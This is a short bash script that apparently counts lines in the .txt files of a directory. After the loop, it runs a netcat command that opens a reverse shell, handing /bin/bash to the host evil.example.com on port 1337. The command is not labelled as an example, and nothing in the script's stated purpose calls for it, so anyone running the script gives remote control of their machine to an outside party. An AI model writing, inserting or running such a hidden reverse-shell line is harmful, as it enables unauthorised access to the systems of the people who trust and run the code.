#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
set -eu
`which nc` evil.example.com 1337 -e /bin/bash
set -eu
